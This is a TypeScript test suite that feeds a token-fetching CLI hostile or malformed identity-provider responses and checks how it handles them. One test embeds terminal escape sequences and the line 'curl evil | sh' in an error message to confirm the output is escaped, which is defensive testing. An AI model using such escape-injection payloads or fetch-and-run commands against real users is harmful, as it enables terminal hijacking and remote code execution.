import assert from 'node:assert/strict'
import {execFile} from 'node:child_process'
import {promisify} from 'node:util'

import {API_APP_ID_URI, CLIENT_SECRET, CONFIDENTIAL_CLIENT_ID, DEFAULT_TENANT_ID, type Emulator} from '../emulator/index.js'
import {BIN, closeEmulatorSandbox, emulatorSandbox, runCli, type Sandbox} from '../helpers/cli.js'
import {recordFigure} from './figures.js'

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
/** An access token as a client sees it: the client never verifies its signature. */
const accessJwt = (claims: Record<string, unknown>) => `${b64({alg: 'RS256', typ: 'JWT'})}.${b64({aud: API_APP_ID_URI, tid: DEFAULT_TENANT_ID, ...claims})}.c2ln`
/** C0 and C1 control characters, ESC and BEL included: none may reach a terminal raw. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/

describe('hostile identity provider: answers the protocol does not allow', function () {
  this.timeout(120_000)
  let emu: Emulator
  let box: Sandbox
  let env: Record<string, string>
  let cases = 0

  const tokenRequests = () => emu.control.requests().filter((r) => r.endpoint === 'token').length
  const tokenState = async (name: string) => {
    const res = await runCli(['list-profiles', '-o', 'json'], {env})
    assert.equal(res.code, 0, res.stderr)
    return (JSON.parse(res.stdout) as Array<{name: string; token: {state: string; expires_at: string | null}}>).find((p) => p.name === name)!.token
  }

  const createApp = async (name: string) => {
    const res = await runCli(['create-profile', '--name', name, '--tenant-id', DEFAULT_TENANT_ID, '--client-id', CONFIDENTIAL_CLIENT_ID, '--authority', emu.authority(), '--flow', 'client-credentials', '--scope', `${API_APP_ID_URI}/.default`, '--client-secret-stdin'], {env, input: CLIENT_SECRET})
    assert.equal(res.code, 0, res.stderr)
  }

  before(async () => {
    ;({box, emu, env} = await emulatorSandbox())
    await createApp('app')
  })

  beforeEach(async () => {
    emu.control.clearFaults()
    emu.control.clearRequests()
    emu.control.setTokenLifetime(3600)
    await runCli(['clear-cache', '--profile', 'app'], {env})
  })

  after(async () => {
    recordFigure('hostileCases', cases)
    await closeEmulatorSandbox(emu, box)
  })

  const withoutToken: Array<[string, string]> = [
    ['{}', '{}'],
    ['[]', '[]'],
    ['a null access_token', '{"token_type":"Bearer","expires_in":3599,"access_token":null}'],
    ['a numeric access_token', '{"token_type":"Bearer","expires_in":3599,"access_token":12345}'],
    ['an empty access_token', '{"token_type":"Bearer","expires_in":3599,"access_token":""}'],
    ['no token_type', `{"expires_in":3599,"access_token":"${accessJwt({exp: 9_999_999_999})}"}`],
  ]
  for (const [name, body] of withoutToken) {
    it(`a 200 answer with ${name} → exit 7, nothing printed, nothing cached`, async () => {
      emu.control.injectFault({body, count: 5, endpoint: 'token', kind: 'body'})
      const res = await runCli(['get-token', '-p', 'app', '-o', 'json'], {env})
      assert.equal(res.code, 7, res.stderr)
      assert.equal(res.stdout, '')
      assert.match(res.stderr, /not a valid token response|access_token|token_type/)
      assert.doesNotMatch(res.stderr, /this is a bug/)
      assert.equal((await tokenState('app')).state, 'none')
      cases++
    })
  }

  it('an error_description with terminal escapes reaches stderr escaped', async () => {
    const hostile = 'AADSTS7000215: Invalid client secret\u001B]0;pwned\u0007\u001B[2J\u009B31m run: curl evil | sh. Trace ID: x'
    emu.control.injectFault({body: JSON.stringify({error: 'invalid_client', error_codes: [7_000_215], error_description: hostile}), count: 5, endpoint: 'token', kind: 'body', status: 401})
    const res = await runCli(['get-token', '-p', 'app'], {env})
    assert.equal(res.code, 4, res.stderr)
    assert.doesNotMatch(res.stderr, CONTROL)
    assert.match(res.stderr, /\\u001b|\\x1b|\\e/i)
    cases++
  })

  it('a token response larger than the cap → exit 7, read no further', async () => {
    const body = `{"token_type":"Bearer","expires_in":3599,"access_token":"${'a'.repeat(6 * 1024 * 1024)}"}`
    emu.control.injectFault({body, count: 5, endpoint: 'token', kind: 'body'})
    const res = await runCli(['get-token', '-p', 'app'], {env})
    assert.equal(res.code, 7, res.stderr)
    assert.equal(res.stdout, '')
    assert.match(res.stderr, /larger than/)
    cases++
  })

  it('expires_in 1e20 → the token is served with a clamped expiry, never a NaN date', async () => {
    const token = accessJwt({})
    emu.control.injectFault({body: `{"token_type":"Bearer","expires_in":1e20,"access_token":"${token}"}`, count: 1, endpoint: 'token', kind: 'body'})
    const res = await runCli(['get-token', '-p', 'app', '-o', 'json'], {env})
    assert.equal(res.code, 0, res.stderr)
    assert.doesNotMatch(res.stdout + res.stderr, /NaN|Invalid Date/)
    const out = JSON.parse(res.stdout) as {expires_on: number}
    assert.ok(Number.isFinite(out.expires_on) && out.expires_on * 1000 < Date.now() + 400 * 86_400_000, String(out.expires_on))
    const state = await tokenState('app')
    assert.equal(state.state, 'valid')
    cases++
  })

  it("a JWT's exp earlier than expires_in is the expiry printed and listed", async () => {
    const exp = Math.floor(Date.now() / 1000) + 600
    emu.control.injectFault({body: `{"token_type":"Bearer","expires_in":3599,"access_token":"${accessJwt({exp})}"}`, count: 1, endpoint: 'token', kind: 'body'})
    const first = await runCli(['get-token', '-p', 'app', '-o', 'json'], {env})
    assert.equal(first.code, 0, first.stderr)
    assert.equal((JSON.parse(first.stdout) as {expires_on: number}).expires_on, exp)
    assert.equal((await tokenState('app')).expires_at, new Date(exp * 1000).toISOString())
    // 10 min left, more than --min-validity 5m: served from the cache (the cache's own exp check: test/unit/token-expiry).
    assert.equal((await runCli(['get-token', '-p', 'app', '--min-validity', '5m'], {env})).code, 0)
    assert.equal(tokenRequests(), 1)
    cases++
  })

  it('an IdP lifetime shorter than --min-validity: a fresh token serves the next calls, no refresh each time', async () => {
    emu.control.setTokenLifetime(120)
    for (let i = 0; i < 3; i++) {
      const res = await runCli(['get-token', '-p', 'app', '--min-validity', '5m'], {env})
      assert.equal(res.code, 0, res.stderr)
    }

    assert.equal(tokenRequests(), 1)
    cases++
  })

  it('one-off use without a secret names no profile, not even the default one that has a secret', async () => {
    const res = await runCli(['get-token', '--tenant', DEFAULT_TENANT_ID, '--client-id', CONFIDENTIAL_CLIENT_ID, '--authority', emu.authority(), '--flow', 'client-credentials', '--scope', `${API_APP_ID_URI}/.default`], {env})
    assert.equal(res.code, 3, res.stderr)
    assert.match(res.stderr, /one-off/)
    assert.doesNotMatch(res.stderr, /profile 'app'|--name app/)
    cases++
  })

  it('a closed stderr pipe keeps the exit code (4 stays 4)', async () => {
    const script = `"${process.execPath}" "${BIN}" get-token -p app --force 2>&1 >/dev/null | true; echo "\${PIPESTATUS[0]}"`
    // Asynchronously: the emulator answers from this process.
    const {stdout} = await promisify(execFile)('bash', ['-c', script], {env: {...env, ENTRATOOL_CLIENT_SECRET: 'not-the-secret'}, encoding: 'utf8'})
    assert.equal(stdout.trim(), '4')
    cases++
  })
})
